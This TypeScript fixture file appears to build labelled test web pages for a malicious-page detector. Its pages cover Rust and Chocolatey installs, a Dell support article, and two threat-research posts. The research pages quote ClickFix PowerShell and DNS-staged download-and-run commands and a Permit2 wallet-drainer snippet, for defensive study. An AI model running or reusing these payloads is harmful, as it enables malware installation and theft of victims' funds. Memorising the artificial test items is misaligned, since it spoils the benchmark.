import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute, fileRoute } from '../parts/e-bin.js';
import { doc, icons, vendorCss, footerLinks, copyBlock, cookieBanner, gtagInline, wpBlog, wpCssRoute } from '../parts/m-kit.js';

const docsCss = (accent: string) => vendorCss(accent) + `
.layout{display:grid;grid-template-columns:230px 1fr;gap:36px;max-width:1180px;margin:0 auto;padding:24px}.side a{display:block;color:#444;text-decoration:none;padding:4px 0;font-size:14px}
.side b{display:block;margin-top:14px;font-size:12px;text-transform:uppercase;color:#888}article h2{margin-top:32px}.tip{background:#eef6ff;border-left:4px solid ${accent};padding:10px 14px;border-radius:4px}.warn{background:#fff7e6;border-left:4px solid #f0a500;padding:10px 14px;border-radius:4px}`;

export const entries: Entry[] = [
(() => {
  const host = 'www.rust-lang.org';
  return {
    id: 'm-clean-rustup-install-page',
    label: 'clean',
    kind: 'install-docs',
    url: `https://${host}/tools/install`,
    body: doc({
      title: 'Install Rust - Rust Programming Language',
      css: `body{font-family:"Fira Sans",Helvetica,Arial,sans-serif;background:#fff;color:#333;text-align:center;margin:0;padding:40px}pre{background:#f2f2f2;color:#222;padding:14px;border-radius:4px;display:inline-block;text-align:left}
.codeblock{display:inline-block}a{color:#428bca}`,
      body: `<img src="/img/logo.png" width="90" height="90" alt="Rust logo"><p>To install Rust, if you are running a Unix such as WSL, Linux or macOS, run the following in your terminal, then follow the on-screen instructions.</p>
${copyBlock("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", 'rs')}
<p>You appear to be running Windows 64-bit. If not, <a href="#">display all supported installers</a>.</p><p>To install Rust on Windows, download and run <a href="https://static.rust-lang.org/rustup/dist/x86_64-pc-windows-msvc/rustup-init.exe">rustup‑init.exe</a> then follow the on-screen instructions.</p>
<p>You may need to install the <a href="https://visualstudio.microsoft.com/visual-cpp-build-tools/">Visual Studio C++ Build tools</a> when prompted to do so.</p>
<p style="font-size:13px;color:#777">rustup is an official Rust project. <a href="https://github.com/rust-lang/rustup">Source</a> · <a href="https://rust-lang.github.io/rustup/">Documentation</a> · <a href="https://www.rust-lang.org/">Rust home</a></p>`,
    }),
    routes: { ...icons(host, [0, 0, 0]) },
  };
})(),

(() => {
  const host = 'chocolatey.org';
  return {
    id: 'm-clean-chocolatey-install-ps',
    label: 'clean',
    kind: 'install-docs',
    url: `https://${host}/install`,
    body: doc({
      title: 'Chocolatey Software | Installing Chocolatey',
      css: docsCss('#5c9fd8'),
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">Chocolatey</a><nav><a href="/packages">Community Packages</a><a href="/pricing">Pricing</a><a href="/docs">Docs</a><a href="/blog">Blog</a></nav></header>
<div class="layout"><nav class="side"><b>Install</b><a href="#requirements">Requirements</a><a href="#individual">Individual</a><a href="#organization">Organization</a><b>More</b><a href="#">Upgrading</a><a href="#">Uninstalling</a></nav><article>
<h1>Installing Chocolatey</h1><h2 id="requirements">Requirements</h2><ul><li>Windows 7+ / Windows Server 2003+</li><li>PowerShell v2+ (minimum is v3 for install from this website due to TLS 1.2 requirement)</li><li>.NET Framework 4.8</li></ul>
<h2 id="individual">Install Chocolatey for Individual Use</h2><ol><li>First, ensure that you are using an <b>administrative shell</b>.</li><li>Run <code>Get-ExecutionPolicy</code>. If it returns Restricted, run <code>Set-ExecutionPolicy AllSigned</code> or <code>Set-ExecutionPolicy Bypass -Scope Process</code>.</li><li>Now run the following command:</li></ol>
${copyBlock("Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))", 'choco')}
<p class="warn">Please inspect <a href="https://community.chocolatey.org/install.ps1">https://community.chocolatey.org/install.ps1</a> prior to running any of these scripts to ensure safety. We already know it's safe, but you should verify the security and contents of any script from the internet you are not familiar with.</p>
<ol start="4"><li>Paste the copied text into your shell and press Enter.</li><li>Wait a few seconds for the command to complete.</li><li>If you don't see any errors, you are ready to use Chocolatey! Type <code>choco</code> or <code>choco -?</code> now.</li></ol></article></div>${footerLinks('Chocolatey Software, Inc.')}`,
    }),
    routes: { ...icons(host, [92, 159, 216]) },
  };
})(),

(() => {
  const host = 'www.dell.com';
  return {
    id: 'm-clean-dell-support-win-r-msinfo',
    label: 'clean',
    kind: 'support-article',
    url: `https://${host}/support/kbdoc/en-us/000130711/how-to-find-system-information-in-windows`,
    body: doc({
      title: 'How to Find System Information in Windows | Dell US',
      css: docsCss('#0672cb'),
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">DELL Technologies</a><nav><a href="#">Products</a><a href="#">Solutions</a><a href="#">Support</a><a href="#">Deals</a></nav></header>
<div class="layout"><nav class="side"><b>Support</b><a href="#">Drivers &amp; Downloads</a><a href="#">Knowledge Base</a><a href="#">Contact Support</a></nav><article>
<h1>How to Find System Information in Windows</h1><p class="muted">Article Number: 000130711 · Last Modified: 10 Oct 2025</p><h2>Summary</h2><p>This article explains how to open the System Information tool in Windows 11 and Windows 10 to find the processor, BIOS version, memory and other hardware details of your Dell computer.</p>
<h2>Open System Information with the Run dialog</h2><ol><li>Press the <b>Windows logo key + R</b> on the keyboard to open the <b>Run</b> dialog box.</li><li>Type <code>msinfo32</code> and press <b>Enter</b>.</li><li>The <b>System Information</b> window opens. Under <b>System Summary</b>, look for <i>BIOS Version/Date</i> and <i>System SKU</i>.</li></ol>
<h2>Find the Service Tag from the command line</h2><p>Open Command Prompt and type:</p><pre><code>wmic bios get serialnumber</code></pre><p>Or in PowerShell: <code>Get-CimInstance Win32_BIOS | Select SerialNumber</code></p>
<div class="tip">Dell will never ask you to paste commands from a pop-up window or to call a number shown in a browser alert. <a href="#">Learn about tech support scams</a>.</div></article></div>${footerLinks('Dell Inc.')}`,
    }),
    routes: { ...icons(host, [6, 114, 203]) },
  };
})(),

(() => {
  const host = 'labs.northgate-threatintel.com';
  return {
    id: 'm-clean-security-blog-clickfix-analysis',
    label: 'clean',
    kind: 'security-research',
    url: `https://${host}/blog/2025/11/clickfix-fake-captcha-wave/`,
    body: doc({
      title: 'Inside the November ClickFix wave: fake CAPTCHAs, mshta and DNS-staged payloads | Northgate Labs',
      css: docsCss('#c0392b') + 'article{max-width:760px}pre{white-space:pre-wrap}',
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">Northgate Labs</a><nav><a href="/blog/">Research</a><a href="/advisories/">Advisories</a><a href="/ioc/">IOC feeds</a><a href="/about/">About</a></nav></header>
<main><article><p class="muted">Threat Research · 19 November 2025 · 12 min read</p><h1>Inside the November ClickFix wave</h1>
<p>Since early October we have tracked more than 2,400 compromised WordPress sites injecting a fake Cloudflare Turnstile overlay. Clicking the checkbox silently writes a command to the clipboard and the page then instructs the victim to press <b>Win + R</b>, <b>Ctrl + V</b> and <b>Enter</b>.</p>
<h2>Stage 0: the clipboard payload</h2><p>The injected script (obfuscated with a string-array rotator) builds the following command:</p>
<pre><code>powershell -w hidden -nop -c "iwr -useb hxxps://tsn-verify[.]click/g.ps1 | iex" # ✅ ''I am not a robot - Cloudflare Verification ID: 7731-44''</code></pre>
<p>The trailing comment is what the victim sees in the tiny Run dialog. A second variant uses <code>mshta</code> with a remote HTA, and a third resolves the next stage through DNS:</p>
<pre><code>cmd /c "for /f "tokens=*" %i in ('nslookup -q=txt stage2.example[.]invalid ^| find "="') do @powershell -w h -c %i"</code></pre>
<h2>Stage 1: loader</h2><p>The PowerShell script downloads a ZIP to <code>%APPDATA%</code> containing a signed binary and a side-loaded DLL which decrypts Lumma Stealer in memory.</p>
<h2>Detection &amp; mitigation</h2><ul><li>Disable the Run dialog via GPO for users who don't need it (<i>Remove Run menu from Start Menu</i>).</li><li>Alert on <code>explorer.exe</code> spawning <code>powershell.exe</code> or <code>mshta.exe</code> with network arguments; check the <code>RunMRU</code> registry key.</li><li>User awareness: a real CAPTCHA never asks you to run anything.</li></ul>
<h2>Indicators</h2><table><tr><th>Type</th><th>Value</th></tr><tr><td>domain</td><td>tsn-verify[.]click</td></tr><tr><td>domain</td><td>static-wpcache[.]top</td></tr><tr><td>sha256</td><td>4e1f…9a0c (g.ps1)</td></tr></table></article></main>${footerLinks('Northgate Security Ltd.')}`,
    }),
    routes: { ...icons(host, [192, 57, 43]) },
  };
})(),

(() => {
  const host = 'research.chainwatch-security.io';
  return {
    id: 'm-clean-security-blog-drainer-code',
    label: 'clean',
    kind: 'security-research',
    url: `https://${host}/posts/anatomy-of-a-permit2-drainer`,
    body: doc({
      title: 'Anatomy of a Permit2 drainer kit — ChainWatch Research',
      css: docsCss('#6d28d9') + 'article{max-width:780px}',
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">ChainWatch</a><nav><a href="/posts/">Research</a><a href="/scanner">Address scanner</a><a href="/revoke">Revoke guide</a></nav></header>
<main><article><p class="muted">22 October 2025 · by Priya N. and M. Ostrowski</p><h1>Anatomy of a Permit2 drainer kit</h1><p>Drainer-as-a-service kits sold on Telegram now default to off-chain signatures rather than on-chain <code>approve</code> calls, because a signature prompt looks harmless and costs no gas. Here is the core of a kit we recovered from a fake airdrop page:</p>
<pre><code>const data = {
  domain: { name: 'Permit2', chainId: 1, verifyingContract: '0x000000000022D473030F116dDEE9F6B43aC78BA3' },
  primaryType: 'PermitBatch',
  message: { details: tokens.map(t =&gt; ({ token: t, amount: MAX_UINT160, expiration, nonce })), spender: OPERATOR, sigDeadline }
};
const sig = await ethereum.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(data)] });
await fetch('/api/submit', { method: 'POST', body: JSON.stringify({ owner, sig, data }) });</code></pre>
<p>For NFTs the kits still use <code>setApprovalForAll(operator, true)</code> (selector <code>0xa22cb465</code>), and for native ETH they simply send ~95% of the balance after <code>wallet_switchEthereumChain</code> to every chain with funds.</p>
<h2>How to protect yourself</h2><ul><li>Read what you sign: a "PermitBatch" with an unknown spender is a blank cheque.</li><li>Use a wallet with transaction simulation.</li><li>Review and revoke allowances regularly with a tool like Revoke.cash.</li></ul><p>This code is shown for defensive purposes; the snippets on this page are not executed.</p></article></main>${footerLinks('ChainWatch Security')}`,
    }),
    routes: { ...icons(host, [109, 40, 217]) },
  };
})(),
];
